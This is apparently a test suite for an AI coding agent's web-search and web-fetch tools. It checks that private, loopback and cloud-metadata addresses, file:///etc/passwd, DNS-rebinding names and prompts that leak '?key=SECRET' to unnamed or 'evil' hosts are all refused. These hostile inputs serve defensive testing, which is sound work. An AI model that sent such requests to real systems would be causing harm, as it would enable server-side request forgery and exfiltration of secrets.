/** `web_fetch` and `google_web_search` through the binary: nothing but public addresses, and sources named. */
import { describe, expect, test } from "bun:test"
import { googleError } from "./kit/google-errors.ts"
import { fetchInOwnNetwork, hasOwnNetwork } from "./kit/public-network.ts"
import { sent } from "./kit/replies.ts"
import { newWorkspace } from "./kit/run-gemini.ts"
import { callTools, expectAnswer, grounded, inTurns, tool } from "./kit/tool-run.ts"

const YOLO = { args: ["--yolo"] }
const EDITS = { args: ["--approval-mode", "auto_edit"] }

const search = (query: string) => tool("google_web_search", { query })
const fetchPages = (prompt: string) => tool("web_fetch", { prompt })

describe("google_web_search", () => {
  test("citations stand at their places, counted in bytes, and the sources below", async () => {
    await using place = await newWorkspace()
    const run = await callTools(place, inTurns(search("höchster Berg"), search(" ")), {
      utility: () =>
        grounded("Höhe: 4634 m. Sehr hoch.", {
          groundingMetadata: {
            groundingChunks: [
              { web: { uri: "https://one.example/", title: "One" } },
              { web: { uri: "https://two.example/", title: "Two" } }
            ],
            groundingSupports: [
              { segment: { endIndex: 14 }, groundingChunkIndices: [0, 1] },
              { segment: { endIndex: 25 }, groundingChunkIndices: [1] }
            ]
          }
        })
    })
    const [found, blank] = run.answers
    expect(found?.output).toBe(
      'Web search results for "höchster Berg":\n\nHöhe: 4634 m.[1][2] Sehr hoch.[2]\n\nSources:\n[1] One (https://one.example/)\n[2] Two (https://two.example/)'
    )
    expectAnswer(blank, { type: "invalid_tool_params" })
    expect(run.utilityBodies).toHaveLength(1)
    expect(run.utilityBodies[0]).toMatchObject({ tools: [{ googleSearch: {} }] })
  })

  test("nothing found, and a search that fails", async () => {
    await using place = await newWorkspace()
    let count = 0
    const run = await callTools(place, inTurns(search("nothing"), search("fails")), {
      utility: () => (count++ === 0 ? grounded("", {}) : googleError(400, "no search today"))
    })
    const [nothing, failed] = run.answers
    expectAnswer(nothing, { status: "success", output: expect.stringContaining("found nothing") })
    expectAnswer(failed, { type: "web_search_failed", error: expect.stringContaining("no search today") })
    expect(run.result.exitCode).toBe(0)
  })

  test("two of one turn are under way together", async () => {
    await using place = await newWorkspace()
    const LONG_MS = 1500
    let isOpen = false
    let overlapped = false
    await callTools(place, [[search("one"), search("two")]], {
      utility: () => {
        overlapped ||= isOpen
        isOpen = true
        setTimeout(() => (isOpen = false), LONG_MS)
        return sent(grounded("found", {}), { delayMs: LONG_MS })
      }
    })
    expect(overlapped).toBe(true)
  })
})

describe("web_fetch", () => {
  test("a page that the model opens itself, with its sources", async () => {
    await using place = await newWorkspace()
    const run = await callTools(place, inTurns(fetchPages("Sum up http://93.184.216.34/a and http://127.0.0.1/b")), {
      ...YOLO,
      utility: () =>
        grounded("A page.", {
          groundingMetadata: {
            groundingChunks: [{ web: { uri: "http://93.184.216.34/a", title: "A" } }],
            groundingSupports: [{ segment: { endIndex: 7 }, groundingChunkIndices: [0] }]
          }
        })
    })
    const [answered] = run.answers
    expect(answered?.output).toStartWith("<untrusted_context>\n[Warning: not fetched: ")
    expect(answered?.output).toContain("127.0.0.1")
    expect(answered?.output).toEndWith("A page.[1]\n\nSources:\n[1] A (http://93.184.216.34/a)\n</untrusted_context>")
    expect(JSON.stringify(run.utilityBodies)).not.toContain("http://127.0.0.1/b\\n</urls>")
  })

  test("addresses that are not public are refused before anything is sent", async () => {
    await using place = await newWorkspace()
    const urls = [
      "http://127.0.0.1:1/",
      "http://localhost/",
      "http://LOCALHOST./",
      "http://10.0.0.1/",
      "http://192.168.1.1/",
      "http://169.254.169.254/latest/meta-data/",
      "http://[::1]/",
      "http://[::ffff:127.0.0.1]/",
      "http://0x7f000001/",
      "http://2130706433/",
      "http://0/",
      "http://198.18.0.1/",
      "http://metadata.google.internal/"
    ]
    const run = await callTools(place, [urls.map((url) => fetchPages(`read ${url}`))], YOLO)
    expect(run.answers.map(({ type }, index) => [urls[index], type])).toEqual(
      urls.map((url) => [url, "web_fetch_processing_error"])
    )
    expect(run.utilityBodies).toEqual([])
  })

  test("prompts without a usable address", async () => {
    await using place = await newWorkspace()
    const prompts = ["", "no address here", "read ftp://example.org/x", "read file:///etc/passwd", "read http://"]
    const many = Array.from({ length: 21 }, (_, index) => `http://93.184.216.34/${index}`).join(" ")
    const run = await callTools(place, [[...prompts, many].map(fetchPages)], YOLO)
    expect(run.answers.map(({ type }) => type)).toEqual(Array(6).fill("invalid_tool_params"))
  })
})

describe("a host that nobody named", () => {
  const leak = fetchPages("read http://93.184.216.34/?key=SECRET")

  test("is not fetched from in auto_edit: the refusal has the flag that would allow it, and that flag does", async () => {
    await using place = await newWorkspace()
    const run = await callTools(place, inTurns(leak), EDITS)
    expectAnswer(run.answers[0], {
      type: "policy_violation",
      error: expect.stringContaining("no rule names 93.184.216.34")
    })
    expect(run.utilityBodies).toEqual([])
    expect(run.end.permission_denials).toMatchObject([
      { tool_name: "web_fetch", allow_with: '--allowed-tools "web_fetch(93.184.216.34)"' }
    ])
    const again = await callTools(place, inTurns(leak, fetchPages("read http://93.184.216.35/")), {
      args: [...EDITS.args, "--allowed-tools", "web_fetch(93.184.216.34)"]
    })
    // Allowed, and not reached: there is no network here.
    expect(again.answers.map(({ type }) => type)).toEqual(["web_fetch_fallback_failed", "policy_violation"])
  })

  test("is one that only a file, a pipe or a page names", async () => {
    await using place = await newWorkspace()
    await place.write("work/notes.md", "see http://93.184.216.34/ for more")
    const piped = await callTools(place, inTurns(leak), { ...EDITS, stdin: { pipe: "see http://93.184.216.34/" } })
    const named = await callTools(place, inTurns(leak), { ...EDITS, prompt: "what does @notes.md say?" })
    for (const { answers } of [piped, named]) expectAnswer(answers[0], { type: "policy_violation" })
    const typed = await callTools(place, inTurns(leak), { ...EDITS, prompt: "read http://93.184.216.34/start" })
    expectAnswer(typed.answers[0], { type: "web_fetch_fallback_failed" })
    // The model that could open anything is not asked.
    expect(JSON.stringify(typed.utilityBodies)).not.toContain("urlContext")
  })

  test("may be named in a policy file; a prohibition of one host holds in yolo", async () => {
    await using place = await newWorkspace()
    const rule = (decision: string, hosts: string) =>
      `[[rule]]\ntoolName = "web_fetch"\nhosts = ${hosts}\ndecision = "${decision}"\npriority = 100\n`
    const tested = (...flags: ReadonlyArray<string>) =>
      place.run([
        ...["policy", "test", "--tool", "web_fetch", "--args", '{"prompt":"http://a.example.com/x"}'],
        ...flags
      ])
    expect((await tested(...EDITS.args)).exitCode).toBe(2)
    await place.write("home/.gemini/policies/web.toml", rule("allow", '["*.example.com"]'))
    expect((await tested()).exitCode).toBe(0)
    await place.write("home/.gemini/policies/web.toml", rule("deny", '"a.example.com"'))
    expect((await tested("--approval-mode", "yolo")).exitCode).toBe(3)
    await place.write("home/.gemini/policies/web.toml", rule("allow", '["two words"]'))
    expect((await place.run(["policy", "list"])).stderr).toContain('hosts: "two words" is no host')
  })
})

describe.skipIf(!hasOwnNetwork())("web_fetch in a network with a public page", () => {
  test("pages are fetched, turned into text and read to a model; redirects inward lead nowhere", async () => {
    const report = await fetchInOwnNetwork({
      settings: "{}",
      calls: [
        { prompt: "sum up URL/page URL/data.json URL/missing" },
        { prompt: "follow URL/moved" },
        { prompt: "follow URL/inward" },
        { prompt: "read URL/huge" },
        { prompt: "read PRIVATE/secret" }
      ]
    })
    const [some, moved, inward, huge, direct] = report.answers
    expect(some?.output).toStartWith("<untrusted_context>\n[Warning: not fetched: ")
    expect(some?.output).toContain("404")
    expect(some?.output).toEndWith("what the pages say\n</untrusted_context>")
    const reading = report.asked.find((body) => body.includes("<sources>")) ?? ""
    expect(reading).toContain("Hello &amp; welcome")
    expect(reading).not.toContain("<style>")
    expect(reading).toContain("42")
    expect(moved?.status).toBe("success")
    expect([inward?.type, huge?.type, direct?.type]).toEqual([
      "web_fetch_fallback_failed",
      "web_fetch_fallback_failed",
      "web_fetch_processing_error"
    ])
    expect(report.reachedPrivate).toBe(false)
    expect(report.fetched).toContain("/moved")
  })

  test("directly, where the setting says so: no model is asked", async () => {
    const report = await fetchInOwnNetwork({
      settings: '{ "experimental": { "directWebFetch": true } }',
      calls: [{ url: "URL/page" }, { url: "URL/data.json" }, { url: "URL/missing" }, { url: "PRIVATE/secret" }, {}]
    })
    const [page, data, missing, inward, none] = report.answers
    expect(page?.output).toContain("Hello & welcome")
    expect(data?.output).toContain("42")
    expect(`${missing?.output ?? missing?.error}`).toContain("404")
    expect(inward?.status).toBe("error")
    expect(none?.type).toBe("invalid_tool_params")
    expect({ asked: report.asked, reachedPrivate: report.reachedPrivate }).toEqual({ asked: [], reachedPrivate: false })
  })

  test("a name that changes its meaning gains nothing", async () => {
    const report = await fetchInOwnNetwork({
      settings: '{ "experimental": { "directWebFetch": true } }',
      names: {
        // Public when it is judged, private when it is fetched.
        "turn.example.com": [["PUBLIC"], ["127.0.0.1"]],
        // Private only after it was connected to.
        "late.example.com": [["PUBLIC"], ["PUBLIC"], ["127.0.0.1"]],
        "both.example.com": [["PUBLIC", "127.0.0.1"]],
        "inside.example.com": [["127.0.0.1"]],
        "other.example.com": [["PUBLIC"]]
      },
      calls: [
        { url: "http://turn.example.com/page" },
        { url: "http://late.example.com/page" },
        { url: "http://both.example.com/page" },
        { url: "http://inside.example.com/secret" },
        { url: "URL/by-name" },
        { url: "URL/out" }
      ]
    })
    const [turn, late, both, inside, redirected, out] = report.answers
    expect(late?.output).toContain("Hello & welcome")
    expect(out?.output).toContain("Hello & welcome")
    for (const refused of [turn, both, inside, redirected]) expect(refused?.error).toContain("is not a public address")
    expect(report.reachedPrivate).toBe(false)
    expect(report.hosts).toEqual(["late.example.com", "93.184.216.34", "93.184.216.34", "other.example.com"])
  })

  test("unasked, nothing is fetched and no name is looked up but what the prompt names", async () => {
    const report = await fetchInOwnNetwork({
      settings: "{}",
      args: ["--approval-mode", "auto_edit"],
      prompt: "sum up URL/page",
      names: { "other.example.com": [["PUBLIC"]], "secret.evil.example.com": [["PUBLIC"]] },
      calls: [
        { prompt: "read URL/page" },
        { prompt: "read URL/out" },
        { prompt: "read http://secret.evil.example.com/page" },
        { prompt: "read URL/page and http://other.example.com/?key=SECRET" }
      ]
    })
    expect(report.answers.map(({ type }) => type)).toEqual([
      undefined,
      "web_fetch_fallback_failed",
      "policy_violation",
      "policy_violation"
    ])
    expect(report.answers[1]?.error).toContain("it leads to another host, http://other.example.com/page?stolen")
    expect(report.fetched).toEqual(["/page", "/out"])
    expect(report.lookedUp).toEqual([])
    expect(report.asked.some((body) => body.includes("urlContext"))).toBe(false)
    expect(report.denials).toHaveLength(2)
  })
})
